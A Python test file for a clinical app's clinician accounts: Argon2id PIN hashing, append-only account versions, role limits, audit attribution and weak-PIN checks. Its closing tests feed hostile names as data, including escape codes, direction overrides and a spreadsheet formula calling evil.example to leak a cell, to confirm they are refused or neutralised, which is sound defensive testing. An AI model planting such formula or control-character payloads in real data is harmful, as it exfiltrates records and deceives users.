"""Clinicians' accounts (issue 14): append-only versions, Argon2id secrets, who may change
what, and the sign-in that says who is acting."""

from __future__ import annotations

import re
import sqlite3
from pathlib import Path

import pytest
from sqlalchemy import text

from kapdesk.clinical.accounts import check_new_secret
from kapdesk.clinical.vitals import ValidationError
from kapdesk.local.clock import FakeClock
from kapdesk.store import RecordStore
from kapdesk.store.accounts import AccountRefused

ADMIN_PIN = "482916"
NURSE_PIN = "730461"


def first_admin(store: RecordStore) -> object:
    admin = store.create_account("Ana Ruiz", credentials="MD", role="prescriber", secret=ADMIN_PIN)
    store.sign_in(admin, "pin")
    return admin


def test_the_first_account_manages_accounts_and_later_ones_need_a_manager(
    store: RecordStore,
) -> None:
    assert not store.has_accounts()
    admin = first_admin(store)
    account = store.account(admin)
    assert account is not None
    assert account.manages_accounts
    assert account.active
    assert account.signature == "Ana Ruiz, MD"
    nurse = store.create_account("Ben Cole", credentials="RN", role="nurse", secret=NURSE_PIN)
    store.sign_in(nurse, "pin")
    with pytest.raises(AccountRefused, match="Only a clinician who manages accounts"):
        store.create_account("Cy Dee", credentials="LMFT", role="therapist", secret="915372")
    # A clinician may change their own PIN, and nothing else of their account.
    store.change_account(nurse, reason="new PIN", secret="264819")
    assert store.check_secret(nurse, "264819")
    assert not store.check_secret(nurse, NURSE_PIN)
    with pytest.raises(AccountRefused):
        store.change_account(nurse, reason="promotion", role="prescriber")


def test_secrets_are_argon2id_hashes_and_never_stored(store: RecordStore, data_dir: Path) -> None:
    admin = first_admin(store)
    assert store.check_secret(admin, ADMIN_PIN)
    assert not store.check_secret(admin, "482917")
    with store.engine.connect() as conn:
        hashes = conn.execute(text("SELECT secret_hash FROM clinician_accounts")).scalars().all()
    assert len(hashes) == 1
    assert hashes[0].startswith("$argon2id$v=19$")
    assert all(ADMIN_PIN not in h for h in hashes)


def test_versions_are_append_only_and_deactivation_keeps_the_history(store: RecordStore) -> None:
    admin = first_admin(store)
    nurse = store.create_account("Ben Cole", credentials="RN", role="nurse", secret=NURSE_PIN)
    store.change_account(nurse, reason="left the clinic", active=False)
    account = store.account(nurse)
    assert account is not None
    assert not account.active
    assert not store.check_secret(nurse, NURSE_PIN)  # an inactive account unlocks nothing
    with pytest.raises(AccountRefused, match="not active"):
        store.sign_in(nurse, "pin")
    with store.engine.connect() as conn:
        versions = (
            conn.execute(
                text(
                    "SELECT active FROM clinician_accounts WHERE clinician_id = :c ORDER BY version"
                ),
                {"c": str(nurse)},
            )
            .scalars()
            .all()
        )
        assert versions == [1, 0]
        with pytest.raises(Exception, match="append-only"):
            conn.execute(text("UPDATE clinician_accounts SET active = 1"))
    assert store.account(admin) is not None


def test_the_last_manager_cannot_be_removed_nor_deactivate_themself(store: RecordStore) -> None:
    admin = first_admin(store)
    with pytest.raises(AccountRefused, match="only active account that manages"):
        store.change_account(admin, reason="demote", manages_accounts=False)
    other = store.create_account(
        "Dana Eto", credentials="MD", role="prescriber", secret="593028", manages_accounts=True
    )
    with pytest.raises(AccountRefused, match="signed in as this clinician"):
        store.change_account(admin, reason="leaving", active=False)
    store.sign_in(other, "pin")
    store.change_account(admin, reason="leaving", active=False)


def test_entries_are_attributed_to_whoever_is_signed_in(store: RecordStore) -> None:
    admin = first_admin(store)
    nurse = store.create_account("Ben Cole", credentials="RN", role="nurse", secret=NURSE_PIN)
    patient = store.add_patient("Pat Example")
    session = store.start_session(patient, protocol="IM ketamine", zone_name="UTC")
    first = store.add_observation(session, "settled")
    store.sign_in(nurse, "pin")
    second = store.add_observation(session, "eyes closed")
    assert store.entry("observation", first).recorded_by == admin
    assert store.entry("observation", second).recorded_by == nurse
    names = store.clinician_names()
    assert names[admin] == "Ana Ruiz, MD"
    assert names[nurse] == "Ben Cole, RN"
    with store.engine.connect() as conn:
        actors = (
            conn.execute(
                text("SELECT actor_id FROM audit_events WHERE entity_id IN (:a, :b) ORDER BY seq"),
                {"a": str(first), "b": str(second)},
            )
            .scalars()
            .all()
        )
    assert actors == [str(admin), str(nurse)]


def test_refused_unlocks_are_counted_from_the_audit_trail_across_a_restart(
    data_dir: Path, clock: FakeClock
) -> None:
    with RecordStore.open(data_dir, clock=clock.now_utc, create=True) as store:
        admin = first_admin(store)
        for _ in range(4):
            store.note_unlock_refused(admin, "lock")
        assert store.unlock_refusals() == 4
    with RecordStore.open(data_dir, clock=clock.now_utc) as store:
        assert store.unlock_refusals() == 4  # a restart does not reset the delay
        store.sign_in(admin, "pin")
        assert store.unlock_refusals() == 0


@pytest.mark.parametrize(
    ("secret", "words"),
    [
        ("12345", "at least 6 digits"),
        ("123456", "first anyone would try"),
        ("987654", "first anyone would try"),
        ("000000", "first anyone would try"),
        ("121212", "first anyone would try"),
        ("short", "at least 10 characters"),
        ("aaaaaaaaaaaa", "too few characters"),
        ("1234567890123", "at most 12 digits"),
    ],
)
def test_weak_secrets_are_refused_with_a_sentence(secret: str, words: str) -> None:
    with pytest.raises(ValidationError, match=words):
        check_new_secret(secret)


def test_good_secrets_are_kept_exactly() -> None:
    assert check_new_secret("482916") == "482916"
    assert check_new_secret(" a quiet room at dusk ") == " a quiet room at dusk "


def test_an_account_name_taken_twice_is_refused(store: RecordStore) -> None:
    first_admin(store)
    with pytest.raises(ValidationError, match="already named"):
        store.create_account("Ana  Ruiz", credentials="MD", role="nurse", secret="593028")


def test_the_database_file_holds_no_account_name_in_plain_text(
    store: RecordStore, data_dir: Path
) -> None:
    first_admin(store)
    for path in data_dir.rglob("*"):
        if path.is_file():
            assert b"Ana Ruiz" not in path.read_bytes()
            assert ADMIN_PIN.encode() not in path.read_bytes()
    with pytest.raises(sqlite3.DatabaseError):
        sqlite3.connect(data_dir / "kapdesk.db").execute("SELECT * FROM clinician_accounts")


@pytest.mark.parametrize(
    ("name", "credentials", "words"),
    [
        ("Dana Test\u200b", "MD", "invisible character (U+200B)"),
        ("Dana Test", "MD\u200b", "invisible character (U+200B)"),
        ("Esc\x1b[2J\x1b[31mRED", None, "control character (U+001B)"),
        ("Dana\u202eTset", None, "control character (U+202E)"),
        ("Evil\x00Nul", None, "NUL character"),
        ("\u3164", None, "invisible character (U+3164)"),
    ],
)
def test_an_account_name_no_one_could_tell_apart_is_refused(store, name, credentials, words):
    """Tamper QA: names and credentials were not checked at all: one beside "Dana Test, MD"
    that looked the same, escape codes, a direction override and a NUL all went in."""
    with pytest.raises(ValidationError, match=re.escape(words)):
        store.create_account(name, credentials=credentials, role="nurse", secret=NURSE_PIN)
    assert store.accounts() == []


def test_an_account_named_like_a_formula_is_exported_as_text(store, tmp_path):
    """Tamper QA: the export's recorded_by_name column went out as typed, a spreadsheet's
    formula included, where every other text column is made safe."""
    import csv

    link = '=HYPERLINK("http://evil.example/"&A1,"x")'
    admin = store.create_account(link, credentials="MD", role="prescriber", secret=ADMIN_PIN)
    store.sign_in(admin, "pin")
    patient = store.add_patient("Pat Example")
    session = store.start_session(patient, protocol="IM", zone_name="UTC")
    store.add_observation(session, "settled")
    store.export_csv(tmp_path / "export")
    with open(tmp_path / "export" / "observations.csv", newline="", encoding="utf-8") as file:
        [row] = list(csv.DictReader(file))
    assert row["recorded_by_name"] == "'" + link
